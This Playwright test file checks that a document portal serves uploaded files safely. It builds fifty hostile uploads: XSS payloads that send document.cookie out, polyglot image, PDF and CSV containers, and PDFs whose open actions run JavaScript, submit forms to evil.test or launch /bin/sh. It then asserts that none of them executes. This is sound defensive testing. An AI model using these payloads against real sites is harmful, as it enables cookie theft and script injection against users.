/** Files made to run something: whatever is in them, the portal's own origin is never reached. */
import { readFileSync } from 'node:fs';
import { pdfOf } from '#test/paged-pdf.ts';
import type { Request } from '@playwright/test';
import { expect, type Page, test } from '../test.ts';
import { sendFile } from '../pages/documents.ts';

const REACH = `fetch('/reached?by='+encodeURIComponent(document.cookie));try{top.location='/reached'}catch(e){};alert(1)`;
/** What runs if a browser takes the bytes for something else than they were stored as. */
const PAYLOADS: Record<string, string> = {
  html: `<html><body><script>${REACH}</script></body></html>`,
  image: `<img src=x onerror="${REACH}"><svg onload="${REACH}"></svg>`,
  svg: `<svg xmlns="http://www.w3.org/2000/svg"><script>${REACH}</script></svg>`,
  xml: `<?xml version="1.0"?><?xml-stylesheet href="/reached"?><x xmlns:h="http://www.w3.org/1999/xhtml"><h:script>${REACH}</h:script></x>`,
  refresh: `<meta http-equiv="refresh" content="0;url=/reached"><base href="//evil.test/"><form action="/reached"><button autofocus>`,
  script: `*/=1;${REACH};/*`,
};
const latin = (text: string) => Buffer.from(text, 'latin1');
/** Whole files of their kind, so that they are taken, with the payload where each keeps remarks. */
const GIF = Buffer.from('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7', 'base64');
const inTests = (name: string) => readFileSync(new URL(`../../test/${name}`, import.meta.url));
const PNG = inTests('tiny.png');
const JPEG = inTests('tiny.jpg');
const CONTAINERS: Record<string, (payload: string) => Buffer> = {
  'a.pdf': (payload) => Buffer.concat([Buffer.from(pdfOf({ pages: [['Page']] })), latin(`\n${payload}`)]),
  'b.pdf': (payload) =>
    Buffer.from(
      pdfOf({ pages: [['Page']], catalog: `/Remark(${payload.replaceAll(/[()\\]/g, String.raw`\$&`)})` }),
    ),
  'a.gif': (payload) => Buffer.concat([GIF, latin(payload)]),
  'a.png': (payload) => Buffer.concat([PNG, latin(payload)]),
  'a.jpg': (payload) =>
    Buffer.concat([
      JPEG.subarray(0, 2),
      Buffer.from('fffe', 'hex'),
      Buffer.from([(payload.length + 2) >> 8, (payload.length + 2) & 255]),
      latin(payload),
      JPEG.subarray(2),
    ]),
  'a.txt': (payload) => latin(payload),
  'a.csv': (payload) => latin(`Name,Amount\n${payload.replaceAll(',', ';')},1`),
};
const js = `this.submitForm('https://evil.test/reached');app.alert('reached');app.launchURL('https://evil.test/reached',true)`;
/** PDFs that act when they are opened, or when something in them is pressed. */
const ACTING: Record<string, string> = {
  'open-script.pdf': `/OpenAction<</S/JavaScript/JS(${js.replaceAll(/[()\\]/g, String.raw`\$&`)})>>`,
  'named-script.pdf': `/Names<</JavaScript<</Names[(x)<</S/JavaScript/JS(app.alert\\(1\\))>>]>>>>`,
  'open-uri.pdf': '/OpenAction<</S/URI/URI(https://evil.test/reached)>>',
  'launch.pdf': '/OpenAction<</S/Launch/F(/bin/sh)>>',
  'submit.pdf': '/OpenAction<</S/SubmitForm/F(https://evil.test/reached)>>',
  'remote.pdf': '/OpenAction<</S/GoToR/F(https://evil.test/reached.pdf)/D[0/Fit]>>',
  'xfa.pdf':
    '/AcroForm<</XFA(<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><script>app.alert\\(1\\)</script></xdp:xdp>)>>',
  'closing.pdf': '/AA<</WC<</S/JavaScript/JS(app.alert\\(1\\))>>/WS<</S/JavaScript/JS(app.alert\\(1\\))>>>>',
};

/** As pictures and frames of the page itself. */
const showIn = (links: readonly string[]) => `for (const link of ${JSON.stringify(links)})
  for (const kind of ['img', 'iframe']) {
    const element = document.createElement(kind);
    element.src = link;
    document.body.append(element);
  }`;

const withPayload = (names: readonly string[]): [string, Uint8Array][] =>
  names.flatMap((name) =>
    Object.entries(PAYLOADS).map(([kind, payload]): [string, Uint8Array] => [
      `${kind} ${name}`,
      CONTAINERS[name]!(payload),
    ]),
  );
/** Fifty in all: PDFs that act, and whatever hides behind or in another file. */
const FILES: [string, Uint8Array][] = [
  ...Object.entries(ACTING).map(([name, catalog]): [string, Uint8Array] => [
    name,
    pdfOf({ pages: [[name]], catalog }),
  ]),
  ...withPayload(Object.keys(CONTAINERS)),
];

/** Several of them at a time: each waits for the server more than it computes. */
async function inLanes<T>(lanes: number, all: readonly T[], work: (one: T, lane: number) => Promise<void>) {
  const left = [...all];
  const walk = async (_: unknown, lane: number) => {
    for (let next = left.shift(); next !== undefined; next = left.shift()) await work(next, lane);
  };
  await Promise.all(Array.from({ length: lanes }, walk));
}

test.use({ breaksPolicy: true });

test('fifty files made to run something are opened by their links, in the page and in the viewer, and reach nothing', async ({
  page,
  firm,
}) => {
  test.setTimeout(240_000);
  const { id: companyId, hash } = (await firm.client({ entity: `Delgado ${firm.slug}` })).entity;
  const reached: string[] = [];
  const watch = (watched: Page) => {
    watched.on('dialog', (dialog) => {
      reached.push(`dialog ${dialog.message()}`);
      void dialog.dismiss();
    });
    watched.on('request', (request) => {
      const url = new URL(request.url());
      if (url.hostname === 'evil.test' || url.pathname.startsWith('/reached')) reached.push(request.url());
    });
  };
  watch(page);
  page.context().on('page', watch);
  await firm.signIn(page, firm.partner, `/admin/${hash}/documents`);

  const links: string[] = [];
  await inLanes(4, FILES, async ([name, bytes]) => {
    // Some are refused at the door, which is as well.
    const put = (url: string, data: Buffer) => page.request.put(url, { data });
    const id = await sendFile(firm.call, put, { companyId, path: '/Permanent', name, bytes }).catch(
      () => null,
    );
    if (id === null) return;
    const link = { disposition: 'inline' };
    const { url } = await firm.call<{ url: string }>('POST', `/documents/${id}/link`, link);
    links.push(new URL(url, page.url()).href);
  });
  expect(FILES).toHaveLength(50);
  expect(links.length).toBeGreaterThan(40);

  const tabs = [await page.context().newPage(), await page.context().newPage()];
  await inLanes(2, links, async (link, lane) => {
    await tabs[lane]!.goto(link).catch(() => undefined);
  });
  const asked: string[] = [];
  const ended = (request: Request) => void (links.includes(request.url()) && asked.push(request.url()));
  page.on('requestfinished', ended).on('requestfailed', ended);
  await page.evaluate(showIn(links));
  await expect.poll(() => new Set(asked).size).toBe(links.length);
  for (const tab of tabs) await tab.close();

  await page.goto(`/admin/${hash}/documents?path=/Permanent`);
  await page.getByRole('combobox', { name: 'Rows' }).selectOption('50');
  await expect(page.getByText(`1–${links.length} of ${links.length}`)).toBeVisible();
  await page.getByRole('region', { name: 'Documents' }).getByRole('link').first().click();
  // Found by what is written in the page: asking for roles, again and again over a list, takes longer than the viewer.
  const viewer = page.locator('[role=dialog]');
  const shownFile = viewer.locator('canvas[data-drawn], pre, table, img, :text("Failed to load PDF file")');
  const shown = new Set<string>();
  for (let at = 1; at <= links.length; at += 1) {
    await viewer.locator(`:text-is("${at} of ${links.length}")`).waitFor();
    shown.add(await viewer.locator('h2').first().innerText());
    await shownFile.first().waitFor();
    if (at < links.length) await viewer.locator('[aria-label="Next file"]').click();
  }
  expect(shown.size).toBe(links.length);
  expect(reached).toEqual([]);
});
